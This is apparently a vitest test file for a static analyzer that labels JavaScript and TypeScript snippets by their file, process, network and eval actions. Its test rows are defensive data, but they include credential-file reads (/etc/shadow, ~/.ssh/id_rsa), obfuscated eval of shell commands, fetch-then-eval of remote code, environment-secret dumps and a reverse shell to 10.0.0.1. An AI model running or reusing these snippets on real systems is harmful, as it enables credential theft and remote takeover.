// biome-ignore-all lint/suspicious/noTemplateCurlyInString: programs stand in strings
import { expect, test } from "vitest";
import { analyze, comparable, expected, type Row, summary } from "./support.ts";

const pure: readonly Row[] = [
  { code: "const f = n => n < 2 ? 1 : n * f(n - 1); console.log([1, 2].map(f), Math.PI, JSON.stringify({ a: 1 }));" },
  { code: "class A { #x = 1; get x() { return this.#x; } static of() { return new A(); } } console.log(A.of().x)" },
  { code: "import _ from 'lodash'; console.log(_.chunk([1, 2, 3], 2))" },
  { code: "for (const [k, v] of Object.entries({ a: 1 })) console.log(`${k}=${v.toFixed(2)}`)" },
  { code: "async function* g() { yield 1 } for await (const x of g()) console.log(x)" },
  { code: "try { JSON.parse('{') } catch { console.error('no') } finally {}" },
  { code: "const { a, ...rest } = { a: 1, b: 2 }; label: for (;;) { break label }" },
  { code: "console.log(process.argv.slice(2), process.env.LANG, process.env['PATH'])" },
  { code: "const el = <div className={x => x}>hi</div>; console.log(el)" },
];

const typescript: readonly Row[] = [
  {
    code: "interface A { b: string } type B = A | null; const x: B = { b: 'c' }; console.log((x as A).b satisfies string)",
  },
  { code: "enum E { A = 1 } function f<T extends E>(a: T): T { return a } console.log(f<E>(E.A))" },
  {
    code: "import type { X } from './x'; import { readFileSync as r } from 'node:fs'; r('a')",
    does: ["file.read /repo/a"],
  },
  {
    code: "Deno.writeTextFileSync('a', 'b'); await new Deno.Command('ls', { args: ['-l'] }).output()",
    does: ["file.write /repo/a", "process.exec shell:ls -l"],
  },
];

const files: readonly Row[] = [
  { code: "require('fs').readFileSync('/etc/shadow', 'utf8')", does: ["file.read /etc/shadow"] },
  {
    code: "import { writeFile, rm as del } from 'node:fs/promises'; await writeFile('a', 'b'); del('c', { recursive: true })",
    does: ["file.write /repo/a", "file.delete /repo/c"],
  },
  { code: "const { promises: { appendFile } } = require('fs'); appendFile('a', 'b')", does: ["file.append /repo/a"] },
  {
    code: "import fs from 'fs'; import path from 'path'; for (const n of fs.readdirSync('d')) fs.unlinkSync(path.join('d', n))",
    does: ["file.list /repo/d", "file.delete /repo/d/*"],
  },
  { code: "import('fs').then(({ unlinkSync }) => unlinkSync('/tmp/a'))", does: ["file.delete /tmp/a"] },
  { code: "import('fs').then(fs => fs.unlinkSync('/tmp/a'))", does: ["file.delete /tmp/a"] },
  {
    code: "const os = require('os'); require('fs').createReadStream(os.homedir() + '/.ssh/id_rsa')",
    does: ["file.read /home/alice/.ssh/id_rsa"],
  },
  {
    code: "const fs = require('fs'); ['a', 'b'].forEach(f => fs.rmSync(f))",
    does: ["file.delete /repo/a", "file.delete /repo/b"],
  },
  {
    code: "const fs = require('fs'); fs.copyFileSync('a', 'b'); fs.renameSync('c', 'd')",
    does: ["file.read /repo/a", "file.write /repo/b", "file.move /repo/c", "file.write /repo/d"],
  },
  { code: "require('fs').readFileSync.call(null, '/etc/passwd')", does: ["file.read /etc/passwd"] },
  { code: "require('fs').readFileSync.apply(null, ['/etc/passwd'])", does: ["file.read /etc/passwd"] },
  {
    code: "const r = require('fs').readFileSync.bind(null, '/etc/passwd'); r()",
    parse: "partial",
    does: ["file.read"],
  },
  { code: "require('fs')[process.argv[2]]('/etc/passwd')", parse: "partial", does: [] },
];

const commands: readonly Row[] = [
  {
    code: "const { exec: e } = require('child_process'); e('ls -la', (x, y) => console.log(y))",
    does: ["process.exec shell:ls -la"],
  },
  { code: "require('child_' + 'process')['ex' + 'ec']('id')", does: ["process.exec shell:id"] },
  {
    code: "const k = ['spa', 'wn'].join(''); require('node:child_process')[k]('git', ['log', '-1'], { cwd: '/tmp' })",
    does: ["process.exec shell:cd /tmp && git log -1"],
  },
  {
    code: "import { spawn } from 'child_process'; spawn('echo $X', ['a;b'], { shell: true })",
    does: ["process.exec shell:echo $X a;b"],
  },
  {
    code: "process.mainModule.require('child_process').execSync('id')",
    parse: "partial",
    does: ["process.exec shell:id"],
  },
  { code: "globalThis.process.getBuiltinModule('child_process').execSync('id')", does: ["process.exec shell:id"] },
  { code: "import { $ } from 'zx'; await $`ls ${'-la'}`", does: ["process.exec shell:ls -la"] },
  { code: "await Bun.$`id`", does: ["process.exec shell:id"] },
  { code: "import { execa } from 'execa'; await execa('ls', ['a b'])", does: ["process.exec shell:ls 'a b'"] },
  {
    code: "class R { constructor(c) { this.c = c } go() { require('child_process').execSync(this.c) } } new R('id').go()",
    does: ["process.exec shell:id"],
  },
  { code: "const run = (c) => require('child_process').execSync(c); run('id')", does: ["process.exec shell:id"] },
  {
    code: "{ const exec = x => x; exec('a') } const { exec } = require('child_process'); exec('id')",
    does: ["process.exec shell:id"],
  },
  {
    code: "require('child_process').exec(process.argv[2])",
    parse: "partial",
    does: ["process.exec"],
    signals: ["execution.unknown_text"],
  },
];

const network: readonly Row[] = [
  {
    code: "fetch('https://a.example/x').then(r => r.json()).then(console.log)",
    does: ["net.fetch https://a.example/x"],
  },
  { code: "globalThis['fe' + 'tch']('https://a.example/')", does: ["net.fetch https://a.example/"] },
  { code: "{ const fetch = x => x; fetch(1) } fetch('https://a.example/')", does: ["net.fetch https://a.example/"] },
  { code: "fetch('https://a.example/', { method: 'POST', body: 'x' })", does: ["net.upload https://a.example/"] },
  { code: "fetch(`https://a.example/${process.argv[2]}`)", does: ["net.fetch https://a.example/"] },
  { code: "fetch(new URL('/x', 'https://a.example'))", does: ["net.fetch https://a.example/x"] },
  {
    code: "const axios = require('axios').default; axios({ url: 'https://a.example/', method: 'put', data: {} })",
    does: ["net.upload https://a.example/"],
  },
  {
    code: "const api = require('axios').create(); api.post('https://a.example/')",
    does: ["net.upload https://a.example/"],
  },
  {
    code: "require('https').get('https://a.example/', r => r.on('data', d => process.stdout.write(d)))",
    does: ["net.fetch https://a.example/"],
  },
  { code: "require('net').connect(4444, '10.0.0.1')", does: ["net.connect 10.0.0.1:4444"] },
  { code: "new WebSocket('wss://a.example/')", does: ["net.connect wss://a.example/"] },
  {
    code: "require('http').createServer((q, r) => r.end('x')).on('error', console.error).listen(8080)",
    does: ["net.listen 0.0.0.0:8080"],
    signals: ["network.listen"],
  },
  {
    code: "const { Pool } = require('pg'); new Pool({ host: 'db.example' }).connect((e, c) => c.query('drop table x'))",
    does: ["net.connect db.example", "db.write sql:drop table x"],
  },
  { code: "import 'https://a.example/x.js'", parse: "partial", does: ["net.fetch https://a.example/x.js"] },
];

const dynamic: readonly Row[] = [
  { code: 'eval(\'require("child_process").execSync("id")\')', parse: "partial", does: ["process.exec shell:id"] },
  {
    code: "(0, eval)(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp'))",
    parse: "partial",
    does: ["process.exec shell:id"],
    signals: ["execution.decoded"],
  },
  {
    code: 'new Function(\'return require("fs").unlinkSync("/tmp/a")\')()',
    parse: "partial",
    does: ["file.delete /tmp/a"],
  },
  { code: "[]['constructor']['constructor']('return process')()", parse: "partial", does: [] },
  {
    code: "require('vm').runInNewContext(Buffer.from('6964', 'hex').toString())",
    parse: "partial",
    does: [],
    signals: ["execution.decoded"],
  },
  {
    code: 'setTimeout(\'require("child_process").exec("id")\', 10)',
    parse: "partial",
    does: ["process.exec shell:id"],
  },
  {
    code: "eval(String.fromCharCode(102, 101, 116, 99, 104) + '(\"https://a.example/\")')",
    parse: "partial",
    does: ["net.fetch https://a.example/"],
    signals: ["execution.decoded"],
  },
  { code: "eval(')\"di\"(metsys'.split('').reverse().join(''))", parse: "partial", does: ["process.exec shell:id"] },
  {
    code: "fetch('https://a.example/x').then(r => r.text()).then(eval)",
    parse: "partial",
    does: ["net.fetch https://a.example/x", "code.run"],
  },
  { code: "const m = process.argv[2]; require(m)", parse: "partial" },
  { code: "require('./local')", parse: "partial" },
  { code: "with (process) { exit() }", parse: "partial" },
  { code: "WebAssembly.instantiate(new Uint8Array([0]))", parse: "partial" },
];

const behaviours: readonly Row[] = [
  { code: "console.log(JSON.stringify(process.env))", signals: ["credential.environment"] },
  { code: "const { API_TOKEN } = process.env; console.log(API_TOKEN)", signals: ["credential.environment"] },
  { code: "for (const k in process.env) console.log(process.env[k])", signals: ["credential.environment"] },
  {
    code: "require('child_process').spawn('ls', [], { env: { ...process.env, A: 'b' } })",
    does: ["process.exec shell:ls"],
    signals: [],
  },
  {
    code: "const s = require('child_process').spawn('/bin/sh'); const c = require('net').connect(1, '10.0.0.1', () => { c.pipe(s.stdin); s.stdout.pipe(c) })",
    does: ["process.exec shell:/bin/sh", "net.connect 10.0.0.1:1"],
    signals: ["execution.reverse_shell"],
  },
];

test.each([...pure, ...files, ...commands, ...network, ...dynamic, ...behaviours])("$code", (row) => {
  expect(comparable(row, summary(analyze(row.code, "javascript")))).toEqual(expected(row));
});

test.each(typescript)("$code", (row) => {
  expect(comparable(row, summary(analyze(row.code, "typescript")))).toEqual(expected(row));
});
